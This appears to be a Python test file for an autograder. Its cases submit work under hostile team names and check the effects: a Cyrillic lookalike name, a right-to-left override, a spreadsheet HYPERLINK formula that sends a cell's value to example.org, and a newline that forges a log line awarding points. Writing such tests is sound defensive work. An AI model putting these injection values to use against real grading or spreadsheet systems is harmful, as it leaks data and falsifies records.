"""Names that teams give to what they hand in: a team is known by nothing else."""

from pathlib import Path

from cases import Case, Stock, harmed
from course import IN_WALLS, WALLS, Course, write

LOOKALIKE = "h\N{CYRILLIC SMALL LETTER O}nnete-tout"
TURNED = "equipe-\N{RIGHT-TO-LEFT OVERRIDE}gnp"
FORMULA = '=HYPERLINK("http:example.org?"&A1,"notes")'
LINES = "equipe\n[AutogradeApp | INFO] fausse: 31 points"
BRACKETS = "equipe [1]"


def walls(name: str):
    """Hands in the first notebook, all right, in a folder of that name."""
    def make(course: Course, received: Path) -> None:
        write(course.answered(WALLS), received / name / f"{WALLS}.ipynb")

    return make


def _exported(stock: Stock) -> str:
    try:
        lines = (stock.machine / "grades.csv").read_text(encoding="utf-8").splitlines()
    except OSError:
        return ""
    return "a formula in the marks that are exported" if any(FORMULA[:10] in line for line in lines) else ""


def _twins(course: Course, received: Path) -> None:
    for name in ("jumelles", "Jumelles"):
        write(course.answered(WALLS), received / name / f"{WALLS}.ipynb")


CASES = [
    Case("sosie", "A name that reads as another team's, with a Cyrillic letter.", walls(LOOKALIKE), lambda stock: f"{stock.points:g} points under a name that nobody can tell from the other" if stock.points else "", IN_WALLS,
         team="h-nnete-tout", says=("is taken as the team h-nnete-tout",)),
    Case("droite-gauche", "A name with a character that turns the order of letters.", walls(TURNED), lambda stock: "the log and the marks are written backwards" if TURNED in stock.log else "", IN_WALLS, team="equipe--gnp",
         says=("\\u202e",)),
    Case("crochets", "A name with brackets.", walls(BRACKETS), harmed(IN_WALLS), IN_WALLS, team="equipe-1"),
    Case("formule", "A name that is a formula for spreadsheets.", walls(FORMULA), _exported, IN_WALLS, team="HYPERLINK-http-example-org-A1-notes", by="export"),
    Case("saut-de-ligne", "A name of two lines, the second forged.", walls(LINES), lambda stock: "a line of the log is forged" if "\n[AutogradeApp | INFO] fausse: 31 points" in stock.log else harmed(IN_WALLS)(stock), IN_WALLS,
         team="equipe-AutogradeApp-INFO-fausse-31-points", says=("\\u000a",)),
    Case("jumelles", "Two hand-ins of one team, told apart by a capital.", _twins, lambda stock: f"two teams, {stock.points:g} points" if stock.points and stock.team == "Jumelles" else "", 0, team="Jumelles",
         says=("are all written Jumelles",)),
    Case("rien-de-lisible", "A name without any letter or digit.", walls("***"), harmed(IN_WALLS), 0, team="?", says=("no letter or digit",)),
]
